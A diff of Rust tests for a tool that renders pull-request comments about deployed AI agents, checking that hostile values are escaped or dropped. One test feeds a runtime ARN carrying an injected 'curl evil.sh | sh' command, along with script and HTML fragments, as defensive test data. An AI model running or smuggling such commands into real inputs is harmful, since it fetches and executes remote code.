@@ -120,7 +120,7 @@ fn pr_comment_snapshot() {
         agent_result("echo_bot", Ok(deployed("echo_bot_pr_12", "3", "updated"))),
         agent_result("weather_report_bot", Err("upload failed: <img src=x> @everyone\n~~~\n```".into())),
     ];
-    let markdown = render::pr_comment(12, COMMIT, "us-east-1", &results);
+    let markdown = render::pr_comment(12, COMMIT, &[], &results);
     assert!(markdown.starts_with(render::PR_COMMENT_MARKER));
     // Free text stays inside one fence it cannot close: the fence is longer than any backtick run.
     let error_part = &markdown[markdown.find("### `weather_report_bot` failed").unwrap()..];
@@ -137,20 +137,42 @@ fn pr_comment_prints_only_well_formed_values() {
     hostile.runtime_arn = Some("arn:x' ; curl evil.sh | sh ; echo '\n```".into());
     hostile.action = xtask::report::DeployAction::Planned;
     hostile.status = "READY`<script>".into();
-    let markdown = render::pr_comment(12, COMMIT, "us-east-1", &[agent_result("echo_bot", Ok(hostile))]);
+    let markdown = render::pr_comment(12, COMMIT, &[], &[agent_result("echo_bot", Ok(hostile))]);
     assert!(!markdown.contains("curl") && !markdown.contains("planned"), "{markdown}");
-    assert!(markdown.contains("--agent-runtime-arn '<runtime ARN>'"), "{markdown}");
+    assert!(markdown.contains("# echo_bot (HTTP): <runtime ARN>\ncargo xtask invoke echo_bot --pr 12"), "{markdown}");
     assert!(markdown.contains("| `READY<script>` | - |"), "{markdown}");
     // A pipe or a line break cannot end the cell or the row.
     let mut hostile = deployed("echo_bot_pr_12", "3", "updated");
     hostile.status = "READY | [x](https://evil)\n| row |".into();
-    let markdown = render::pr_comment(12, COMMIT, "us-east-1", &[agent_result("echo_bot", Ok(hostile))]);
+    let markdown = render::pr_comment(12, COMMIT, &[], &[agent_result("echo_bot", Ok(hostile))]);
     assert!(markdown.contains("| `READY  [x](https://evil) row ` | updated |"), "{markdown}");
+}
+
+/// The comment's invocation speaks each agent's protocol: a prompt for HTTP, A2A and AG-UI, an MCP
+/// `tools/list` for an MCP server (which takes no prompt).
+#[test]
+fn pr_comment_invocations_follow_each_agents_protocol() {
+    let root = repo_root().join("tests/fixtures/protocols");
+    let settings = xtask::settings::Settings::from_workspace(&root).unwrap();
+    let all = agents::discover(&root, &settings).unwrap();
+    let results: Vec<render::AgentResult> = ["chat_http", "tools_mcp", "peer_a2a"]
+        .iter()
+        .map(|agent| agent_result(agent, Ok(deployed(&format!("{agent}_pr_12"), "1", "created"))))
+        .collect();
+    let markdown = render::pr_comment(12, COMMIT, &all, &results);
+    for line in [
+        "cargo xtask invoke chat_http --pr 12 --prompt Hello\n",
+        "cargo xtask invoke peer_a2a --pr 12 --prompt Hello\n",
+        "cargo xtask invoke tools_mcp --pr 12 --payload '{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"tools/list\",\"params\":{}}'\n",
+        "# tools_mcp (MCP): arn:aws:bedrock-agentcore:",
+    ] {
+        assert!(markdown.contains(line), "{line} in\n{markdown}");
+    }
 }
 
 #[test]
 fn pr_comment_when_nothing_changed_snapshot() {
-    snapshot("pr_comment_nothing", &render::pr_comment(12, COMMIT, "us-east-1", &[]));
+    snapshot("pr_comment_nothing", &render::pr_comment(12, COMMIT, &[], &[]));
 }
 
 #[test]
